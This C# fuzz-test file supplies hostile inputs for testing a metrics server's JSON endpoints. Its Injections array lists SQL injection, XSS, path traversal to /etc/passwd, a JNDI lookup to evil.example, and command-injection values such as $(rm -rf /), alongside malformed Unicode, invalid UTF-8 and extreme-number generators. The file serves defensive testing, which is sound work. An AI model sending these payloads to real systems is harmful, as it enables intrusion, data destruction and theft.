using System.Globalization;
using System.Text;
using System.Text.Json.Nodes;

namespace CsMetrics.Server.Tests.Fuzz;

/// <summary>
/// The hostile vocabulary the fuzz draws from: strings, numbers, byte sequences and whole JSON
/// values that a careless parser, validator or store would trip over.
/// </summary>
/// <remarks>
/// Two markers let a <see cref="JsonNode"/> tree carry what JSON nodes cannot: a string value
/// starting with <see cref="Raw"/> is written verbatim (NaN, 1e400, 1000 nested brackets, a raw
/// NUL inside quotes), and a character in U+E000–U+E0FF stands for the single byte 0x00–0xFF,
/// so invalid UTF-8 survives until <see cref="HostileJson.Encode"/> turns the text into bytes.
/// </remarks>
public static class HostileValues
{
    public const string Raw = "\uE100raw:";

    /// <summary>Key suffix that lets one JSON object hold a key twice (stripped when written).</summary>
    public const char DuplicateMark = '\uE101';

    public static JsonValue RawJson(string text) => JsonValue.Create(Raw + text);

    /// <summary>The placeholder character for one raw byte.</summary>
    public static string Bytes(params byte[] bytes) => new(bytes.Select(b => (char)(0xE000 + b)).ToArray());

    public static readonly string[] Injections =
    [
        "' OR '1'='1", "'; DROP TABLE accounts;--", "1; SELECT * FROM sqlite_master", "\" OR \"\"=\"", "admin'--", "' UNION SELECT NULL,NULL--",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "\"><svg/onload=alert(1)>", "</script><script>",
        "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2f", "file:///etc/passwd",
        "${jndi:ldap://evil.example/a}", "${env:HOME}", "${${lower:j}ndi:dns://x}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "%s%s%s%n%x",
        "%00", "a%00b", "%0d%0aSet-Cookie:x=y", "a\r\nSet-Cookie: x=y", "\r\n\r\nHTTP/1.1 200 OK", "line1\nline2",
        "$(rm -rf /)", "`id`", "| cat /etc/passwd", "; ls", "__proto__", "constructor", "{\"$gt\":\"\"}", "*)(uid=*))(|(uid=*",
    ];

    public static readonly string[] Unicode =
    [
        "\u202Eevil\u202C", "\u202Dx\u202E", "a\u200Bb", "\u200D", "\uFEFFbom", "\u2028\u2029", "\u0085next", "e\u0301\u0301\u0301",
        "Z\u0334\u0321\u031B\u0327a\u0337\u0322\u0328l\u0338\u031Bg\u0335o", "\uD83D\uDE00\uD83D\uDC4D", "\uD835\uDD73\uD835\uDD8A", "\uFFFF", "\uFFFE",
        "\uFF52\uFF45\uFF44", "\u0130", "\u00DF", "\u0661\u0662\u0663", "\u3000", "\u00A0", "red\u200B", "\u0000", "a\u0000b",
        "\u0001\u0002\u001F", "\u007F", "\u009F", "\uD800", "\uDC00", "x\uD800y", "\uDBFF\uDBFF", "\uDFFF\uD800", "\u0007\u0008\u000B\u000C",
        "\u061C\u2066\u2069", "\u1680", "\u180E", "\U000E0001", "\uDBFF\uDFFF",
    ];

    public static readonly string[] NearMisses =
    [
        "", " ", "   ", "\t", "\n", "Red", "RED", " red", "red ", "redd", "usage ", "Usage", "USAGE", "ticket\u0000", "nps ", "NPS",
        "score ", "Score", "drop7D", "renewals", "admin ", "Admin", "read,write", "read+admin", "ingest+read", "*", "null", "undefined",
        "true", "0", "-1", "NaN", "Infinity", "1e400", "0x10", "\u0661", "2026-13-45T99:99:99Z", "0001-01-01T00:00:00Z",
        "9999-12-31T23:59:59Z", "9999-12-31T23:59:59-14:00", "1969-12-31T23:59:59Z", "1970-01-01T00:00:00Z", "2026-01-01", "2026-01-01T00:00:00+99:00",
        "2026-02-30T00:00:00Z", "now", "yesterday", "2026-01-01T00:00:00.123456789012345678901234567890Z", "+002026-01-01T00:00:00Z",
    ];

    /// <summary>Number literals, valid or not as JSON, written raw.</summary>
    public static readonly string[] NumberLiterals =
    [
        "1e400", "-1e400", "1e-400", "NaN", "-NaN", "Infinity", "-Infinity", "+1", "01", "1.", ".1", "0x10", "1_000", "--1", "1e", "1e+", "-",
        "99999999999999999999999999999999999999", "-99999999999999999999", "2147483648", "-2147483649", "9223372036854775808",
        "-9223372036854775809", "1.7976931348623157E+309", "4.9E-325", "-0", "-0.0", "0.0000000000000000000000000001", "1e308", "-1e308",
        "79228162514264337593543950336", "1000000000.01", "1e9", "1E2", "123.456e-7", "2147483647", "-2147483648", "10000001", "3660.5",
        "1" + new string('0', 400), "0." + new string('9', 500),
    ];

    public static readonly string[] InvalidUtf8 =
    [
        Bytes(0xC3, 0x28), Bytes(0xA0, 0xA1), Bytes(0xE2, 0x28, 0xA1), Bytes(0xE2, 0x82, 0x28), Bytes(0xF0, 0x28, 0x8C, 0xBC),
        Bytes(0xF8, 0xA1, 0xA1, 0xA1, 0xA1), Bytes(0xC0, 0xAF), Bytes(0xE0, 0x80, 0xAF), Bytes(0xED, 0xA0, 0x80), Bytes(0xED, 0xBF, 0xBF),
        Bytes(0xFF), Bytes(0xFE), Bytes(0xC0, 0x80), Bytes(0xF4, 0x90, 0x80, 0x80), Bytes(0x80), Bytes(0xBF), Bytes(0xC2),
        Bytes(0xE2, 0x82), Bytes(0xF0, 0x9F, 0x98), Bytes(0xFC, 0x80, 0x80, 0x80, 0x80, 0xAF),
    ];

    /// <summary>Raw control characters (invalid unescaped inside a JSON string).</summary>
    public static readonly string[] RawControls = [Bytes(0x00), Bytes(0x01), Bytes(0x0A), Bytes(0x0D, 0x0A), Bytes(0x1F), Bytes(0x09), Bytes(0x08)];

    public static T Pick<T>(this Random r, IReadOnlyList<T> items) => items[r.Next(items.Count)];

    public static bool Chance(this Random r, int percent) => r.Next(100) < percent;

    /// <summary>A long string: 100k characters of something, sometimes with a sting in the tail.</summary>
    public static string LongString(Random r)
    {
        int n = r.Chance(70) ? 100_000 : r.Next(201, 20_000);
        string unit = r.Next(5) switch
        {
            0 => "a",
            1 => "\uD83D\uDE00",
            2 => "\u202E",
            3 => "<script>",
            _ => "\u0000",
        };
        var sb = new StringBuilder(n + 16);
        while (sb.Length < n)
        {
            sb.Append(unit);
        }
        if (r.Chance(30))
        {
            sb.Append(r.Pick(Unicode));
        }
        return sb.ToString();
    }

    /// <summary>A hostile .NET string (may hold lone surrogates and raw-byte placeholders).</summary>
    public static string String(Random r) => r.Next(12) switch
    {
        0 or 1 => r.Pick(Injections),
        2 or 3 => r.Pick(Unicode),
        4 or 5 => r.Pick(NearMisses),
        6 => "ok" + r.Pick(InvalidUtf8) + "ok",
        7 => LongString(r),
        8 => r.Pick(Injections) + r.Pick(Unicode) + r.Pick(NearMisses),
        9 => new string((char)r.Next(0, 0x20), r.Next(1, 4)),
        10 => RandomChars(r, r.Next(1, 64)),
        _ => r.Pick(NearMisses) + r.Pick(InvalidUtf8),
    };

    public static string RandomChars(Random r, int n)
    {
        var chars = new char[n];
        for (int i = 0; i < n; i++)
        {
            chars[i] = r.Next(4) switch
            {
                0 => (char)r.Next(0x20, 0x7F),
                1 => (char)r.Next(0, 0x20),
                2 => (char)r.Next(0xD800, 0xE000),
                _ => (char)r.Next(0x80, 0xD800),
            };
        }
        return new string(chars);
    }

    /// <summary>Deeply nested brackets or objects, as raw text (1000+ levels unless told otherwise).</summary>
    public static string DeepNesting(Random r, int? levels = null)
    {
        int n = levels ?? r.Next(4) switch { 0 => 1_000, 1 => 5_000, 2 => 65, _ => 100_000 };
        var sb = new StringBuilder(n * 6);
        bool objects = r.Chance(40);
        for (int i = 0; i < n; i++)
        {
            sb.Append(objects ? "{\"a\":" : "[");
        }
        sb.Append(r.Chance(50) ? "1" : "null");
        for (int i = 0; i < n; i++)
        {
            sb.Append(objects ? '}' : ']');
        }
        return sb.ToString();
    }

    /// <summary>A big array, as raw text: 10k or 100k elements.</summary>
    public static string HugeArray(Random r)
    {
        int n = r.Chance(50) ? 10_000 : 100_000;
        string element = r.Next(4) switch { 0 => "0", 1 => "\"red\"", 2 => "null", _ => "{}" };
        var sb = new StringBuilder(n * (element.Length + 1) + 2);
        sb.Append('[');
        for (int i = 0; i < n; i++)
        {
            if (i > 0)
            {
                sb.Append(',');
            }
            sb.Append(element);
        }
        sb.Append(']');
        return sb.ToString();
    }

    /// <summary>A hostile JSON value: wrong types, extremes, nesting, raw literals.</summary>
    public static JsonNode? Value(Random r, int depth = 0)
    {
        switch (r.Next(depth > 2 ? 9 : 13))
        {
            case 0: return null;
            case 1: return JsonValue.Create(String(r));
            case 2: return RawJson(r.Pick(NumberLiterals));
            case 3:
                return r.Next(6) switch
                {
                    0 => JsonValue.Create(long.MaxValue),
                    1 => JsonValue.Create(long.MinValue),
                    2 => JsonValue.Create(-1),
                    3 => JsonValue.Create(double.MaxValue),
                    4 => JsonValue.Create(-double.Epsilon),
                    _ => JsonValue.Create(decimal.MaxValue),
                };
            case 4: return JsonValue.Create(r.Chance(50));
            case 5: return new JsonArray();
            case 6: return new JsonObject();
            case 7: return JsonValue.Create(r.Pick(NearMisses));
            case 8: return RawJson("\"" + r.Pick(RawControls) + r.Pick(Injections).Replace("\"", "", StringComparison.Ordinal) + "\"");
            case 9: return new JsonArray(Value(r, depth + 1), Value(r, depth + 1));
            case 10: return new JsonObject { [String(r).Replace(Raw, "", StringComparison.Ordinal)] = Value(r, depth + 1), ["a"] = Value(r, depth + 1) };
            case 11: return RawJson(r.Chance(70) ? DeepNesting(r) : HugeArray(r));
            default: return JsonValue.Create(LongString(r));
        }
    }

    /// <summary>Random JSON built from nothing.</summary>
    public static JsonNode? RandomDocument(Random r, int depth = 0)
    {
        if (depth > 4 || r.Chance(30))
        {
            return Value(r, 3);
        }
        if (r.Chance(50))
        {
            var o = new JsonObject();
            int n = r.Next(0, 6);
            for (int i = 0; i < n; i++)
            {
                string key = r.Chance(50) ? r.Pick(FieldNames) : String(r).Replace(Raw, "", StringComparison.Ordinal);
                if (!o.ContainsKey(key))
                {
                    o[key] = RandomDocument(r, depth + 1);
                }
            }
            return o;
        }
        var a = new JsonArray();
        int m = r.Next(0, 6);
        for (int i = 0; i < m; i++)
        {
            a.Add(RandomDocument(r, depth + 1));
        }
        return a;
    }

    /// <summary>Names the endpoints know, so random documents sometimes hit real fields.</summary>
    public static readonly string[] FieldNames =
    [
        "signals", "id", "accountId", "type", "timestamp", "userId", "feature", "count", "ticketId", "status", "priority", "tags", "agentReplies",
        "kind", "score", "respondentId", "comment", "mrr", "name", "owner", "segment", "seats", "renewalDate", "band", "reason", "expiresAt",
        "filter", "bands", "minScore", "maxScore", "minDrop7d", "renewalWithinDays", "minDaysSilent", "sort", "limit", "components",
        "measures", "metric", "weight", "windowDays", "linear", "worst", "best", "steps", "upTo", "otherwise", "keyFeatures", "version", "scopes",
    ];

    public static string Iso(DateTimeOffset t) => t.UtcDateTime.ToString("yyyy-MM-dd'T'HH:mm:ss'Z'", CultureInfo.InvariantCulture);
}
